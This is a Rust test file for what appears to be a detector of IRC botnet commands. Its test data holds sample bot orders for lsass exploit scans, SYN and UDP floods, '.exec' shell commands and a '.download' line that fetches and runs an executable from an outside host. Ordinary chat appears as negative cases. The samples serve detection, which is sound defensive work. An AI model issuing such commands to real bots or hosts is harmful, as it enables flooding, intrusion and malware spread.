use super::*;
use proptest::prelude::*;

proptest! {
    #[test]
    fn what_does_not_open_as_an_order_is_none(
        text in "(\\[1?2:04\\] |[0-9]{1,2} ?|\\PC)?(<x>)?[ \t\r\n]?([.!@~$%^&*+#`(|-]{0,2})\
            ([A-Za-z]{1,2}|advscan|NTscan|(bot|ddos|http|Spam).[a-z]{1,3}|udp|scan)( [A-Z]{3}| 192.0.2.1| [0-9]){0,2}"
    ) {
        prop_assert_eq!(order(text.as_bytes()), read(text.as_bytes()));
    }
}

fn fitting(text: &str) -> u32 {
    order(text.as_bytes()).map_or(0, |order| order.fits)
}

#[test]
fn six_dialects_are_understood() {
    for text in [
        ".advscan lsass 40 5 0 -b -r -s",
        "!scan 10.30.x.x 445",
        ".ddos.syn 203.0.113.200 80 30",
        "ddos.synflood 203.0.113.200 30 80",
        ".download http://198.51.100.140/upd.exe c:\\upd.exe 1",
        "!* UDP 203.0.113.200 80 60",
        "!udp 203.0.113.200 1000 64 10",
        "@udpflood 203.0.113.9:53 60",
        ".exec uname -a",
        ".login r00tb0t",
        "!join #new",
    ] {
        assert!(fitting(text) >= 1, "{text}");
    }
}

#[test]
fn talk_is_no_order() {
    for text in [
        "!weather Oslo",
        "!seen bob",
        "how do i get http://example.com/x.exe",
        "...",
        "-> see you at 10",
        "scan the picture please",
        "deb http://ftp.example.com/debian stable main",
        "!list",
        "udp is not tcp 10.0.0.1",
        ".oO(hm)",
        "kill the process 1234",
        "+1 for udp",
    ] {
        assert_eq!(fitting(text), 0, "{text}");
    }
}

#[test]
fn every_plain_verb_gets_past_the_first_glance() {
    for verb in PLAIN.iter().chain(SPACES) {
        assert!(may_open(verb) && may_open(&verb.to_ascii_uppercase()), "{}", verb.escape_ascii());
    }
    assert!([&b"hi"[..], b"", b"a", b"(x)", b"\xe9t\xe9"].iter().all(|text| !may_open(text)));
    assert!(PLAIN.iter().all(|verb| verb.len() >= SHORTEST_PLAIN && !verb.contains(&b'.')));
}

#[test]
fn a_quotation_is_one() {
    assert!(order(b"[12:04] <h3rd3r> .advscan lsass 40 5 0").is_some_and(|order| order.quoted && order.fits > 1));
    assert!(order(b".advscan lsass 40 5 0").is_some_and(|order| !order.quoted));
}

#[test]
fn a_password_is_not_told() {
    assert_eq!(order(b".login sn0wc4t").map(|order| order.shown()).as_deref(), Some(".login <hidden>"));
}

#[test]
fn reports_are_told_from_talk() {
    assert!(is_report(b"[SCAN]: Random Port Scan started") && is_report(b"[DDoS]: Flooding"));
    assert!(!is_report(b"carol: weather for Oslo: 12C") && !is_report(b"[1]: foo") && !is_report(b"[ok] fine"));
}
